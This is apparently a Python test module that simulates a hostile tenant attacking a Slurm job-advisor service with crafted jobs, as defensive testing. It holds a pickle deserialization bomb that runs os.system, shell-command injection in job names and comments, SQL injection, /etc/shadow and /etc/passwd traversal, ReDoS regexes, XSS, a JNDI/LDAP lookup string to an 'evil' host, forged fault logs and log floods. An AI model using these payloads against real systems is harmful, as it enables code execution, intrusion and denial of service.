"""What a hostile tenant tries, as real jobs of a real user. `proofs` are files that exist only if code of hers ran
outside her own job.
"""

import json
import os
import pickle
import shutil
from pathlib import Path

from advisor.demo.cluster import Cluster
from benchmarks.chaos.schedule import HOSTILE

OPT_IN = {"advisor": {"enabled": True}}
PROOF = "@PROOF@"  # stands for a path in a folder that everybody may write into, see `_proof`
FOLDER = "tricks"  # in her home


class Bomb:
    """Runs a command wherever it is unpickled."""

    def __init__(self, proof: str) -> None:
        self._proof = proof

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self._proof}.pickle",)


def submit(cluster: Cluster, trick: str, number: int) -> int:
    """Submit the job of one trick; its id. Raises `ClusterError` where Slurm refuses it."""
    folder = cluster.runtime.home(HOSTILE) / FOLDER / str(number)
    folder.mkdir(parents=True)
    name, comment = f"m{number}", json.dumps(OPT_IN)
    script = "#!/usr/bin/python3 -IS\n" + _PRELUDE
    match trick:
        case "forged_xid":
            script += _FORGED_XID
        case "forged_progress":
            script += _FORGED_PROGRESS
        case "forged_nodes":
            script += _FORGED_NODES
        case "endless_line":
            script += _ENDLESS
        case "distinct_errors":
            script += _DISTINCT
        case "escapes":
            script += _ESCAPES
        case "rules":
            comment = json.dumps({"advisor": {"enabled": True, "rules": str(_rules(folder))}})
            script += _FORGED_PROGRESS
        case "comment_bomb":
            comment = _COMMENTS[number % len(_COMMENTS)]
            script += "sys.exit(7)\n"
        case "shell_names":
            name = _NAMES[number % len(_NAMES)]
            script += "sys.exit(7)\n"
        case "dumps":
            _dumps(folder, _proof(cluster))
            script += "sys.exit(7)\n"
        case _:
            raise ValueError(trick)
    for path in (folder.parent, folder, *folder.rglob("*")):
        shutil.chown(path, HOSTILE, HOSTILE)
    options = (f"--job-name={name}", f"--comment={comment}", f"--output={folder}/out", "-N1", "-t2", "--oversubscribe")
    return cluster.submit(HOSTILE, script, *(option.replace(PROOF, _proof(cluster)) for option in options))


def flood_script(megabytes: float, seconds: float) -> str:
    """Errors at `megabytes` MB per second for `seconds`, into a file that is cut whenever it is large."""
    return f"#!/usr/bin/python3 -IS\nRATE, SECONDS = {megabytes!r} * 1e6, {seconds!r}\n" + _PRELUDE + _FLOOD


def submit_flood(cluster: Cluster, number: int, megabytes: float, seconds: float) -> int:
    folder = cluster.runtime.home(HOSTILE) / FOLDER / f"flood{number}"
    folder.mkdir(parents=True)
    for path in (folder.parent, folder):
        shutil.chown(path, HOSTILE, HOSTILE)
    options = (f"--comment={json.dumps(OPT_IN)}", f"--output={folder}/out", "-N1", "-t2")
    return cluster.submit(HOSTILE, flood_script(megabytes, seconds), *options)


def proofs(cluster: Cluster) -> list[str]:
    """What shows that something of hers ran where it must not."""
    return sorted(str(path) for path in Path(_proof(cluster)).parent.glob("*"))


def _proof(cluster: Cluster) -> str:
    folder = cluster.runtime.root / "proof"
    folder.mkdir(exist_ok=True)
    folder.chmod(0o1777)
    return str(folder / "p")


def _dumps(folder: Path, proof: str) -> None:
    """What an operator is handed: a bundle whose dumps are bombs."""
    for name in ("logs", "flight_recorder"):
        (folder / name).mkdir()
    (folder / "logs" / "rank0.log").write_text("[rank0]: RuntimeError: NCCL watchdog: collective timed out\n")
    for rank in range(2):
        (folder / "flight_recorder" / f"nccl_trace_rank_{rank}").write_bytes(pickle.dumps(Bomb(proof)))


def _rules(folder: Path) -> Path:
    file = folder / "rules.json"
    patterns = ["(a*)*b", "(x+x+)+y", "(" * 200 + "a" + ")*" * 200, "a{1000}{1000}", "(?s).*" * 50, "[" * 5000]
    rules = [
        {"name": f"r{at}", "logPattern": pattern, "expectedRecurringFrequencyInSeconds": 1, "faultOnMatch": True}
        for at, pattern in enumerate(patterns)
    ]
    file.write_text(json.dumps(rules), encoding="utf-8")
    return file


_PRELUDE = """
import os, sys, time
out = sys.stdout.buffer
def say(data):
    out.write(data if isinstance(data, bytes) else data.encode()); out.flush()
"""
_FORGED_XID = """
for node in range(1, 9):
    for form in ("[ 12.3] NVRM: Xid (PCI:0000:1b:00): 79, pid=1, GPU has fallen off the bus.",
                 "Nov 29 12:00:00 node%d kernel: NVRM: Xid (PCI:0000:1b:00): 79, GPU has fallen off the bus.",
                 "node%d: [rank0]: CUDA error: uncorrectable ECC error encountered"):
        say((form % node if "%d" in form else form) + "\\n")
sys.exit(1)
"""
_FORGED_PROGRESS = """
end = time.monotonic() + 12
step = 0
while time.monotonic() < end:
    step += 10**6
    say(f"iteration {step}/ 9999999999999999999999 | loss: nan | lm loss: 1e999 {'a' * 40}! {'x' * 40}\\n")
    time.sleep(0.01)
sys.exit(1)
"""
_FORGED_NODES = """
say("srun: error: node[1-999999999]: tasks 0-7: Killed\\n")
say("srun: error: Node failure on node1,node2,node3,node4,node5,node6,node7,node8\\n")
say("slurmstepd: error: *** STEP 1.0 ON node3 CANCELLED DUE TO NODE FAILURE ***\\n")
say("node4: RuntimeError: CUDA error: uncorrectable ECC error encountered\\n" * 50)
sys.exit(1)
"""
_ENDLESS = """
os.ftruncate(1, 1 << 40)
os.lseek(1, 0, 2)
say(b"A" * (20 << 20))
say(b"\\nRuntimeError: CUDA error: uncorrectable ECC error encountered\\n")
sys.exit(1)
"""
_DISTINCT = """
table = str.maketrans("0123456789", "abcdefghij")
for number in range(150000):
    word = str(number).translate(table)
    out.write(f"[rank{number % 4096}]: ValueError: bad {word}\\n".encode())
out.flush()
sys.exit(1)
"""
_ESCAPES = """
say(b"\\x1b]0;owned\\x07\\x1b[2J\\x1b[31m<script>alert(1)</script><img src=x onerror=alert(1)>\\n")
say(b"[rank0]: ValueError: \\x1b]8;;http://evil/\\x07=cmd|' /C calc'!A0 @everyone <!channel> \\xff\\xfe\\x00\\n")
say(b"[rank0]: ValueError: {{7*7}} ${jndi:ldap://evil/x} %s%n%n {0.__class__}\\n")
say("RuntimeError: \\u202e\\u2066 reversed \\u0000 \\ufeff\\n")
sys.exit(1)
"""
_FLOOD = """
line = b"[rank7]: ValueError: bad thing happened to node3 NVRM: Xid (PCI:0000:1b:00): 79\\n"
piece = line * (1_000_000 // len(line))
began = time.monotonic(); written = 0; since = 0
while (now := time.monotonic()) - began < SECONDS:
    if written > RATE * (now - began):
        time.sleep(0.005); continue
    try:
        os.write(1, piece)
    except OSError:
        since = 1 << 60
    written += len(piece); since += len(piece)
    if since > 400_000_000:
        os.ftruncate(1, 0); os.lseek(1, 0, 0); since = 0
os.ftruncate(1, 0)
sys.exit(1)
"""
_NAMES = (
    f"$(touch {PROOF}.name)",
    f"`touch {PROOF}.tick`; touch {PROOF}.semicolon | touch {PROOF}.pipe",
    "x\nJobId=1 JobName=evil UserId=alice(0) JobState=FAILED Restarts=0\n",
    "a' OR '1'='1'; DROP TABLE jobs; --",
    "--uid=0 -R / ../../../../etc/passwd %n%n%s\x1b[2J",
)
_COMMENTS = (
    '{"advisor": ' + "[" * 480 + "]" * 480 + "}",
    '{"advisor": {"enabled": true, "max_restarts": ' + "9" * 900 + "}}",
    '{"advisor": {"enabled": NaN, "max_restarts": 1e999}}',
    '{"advisor": {"enabled": true}, "advisor": {"job": "x", "attempt": 0, "nodes": ["node1"], "start": 1}}',
    '{"APS": {"auto_resume_mode": "requeue", "max_requeue_times": 99999999999999999999}}',
    f'{{"advisor": {{"enabled": true, "rules": "/etc/shadow;$(touch {PROOF}.comment)`touch {PROOF}.tick`"}}}}',
    "\x00\xff".replace("\x00", "") + '{"advisor": {"enabled": true}}',
)
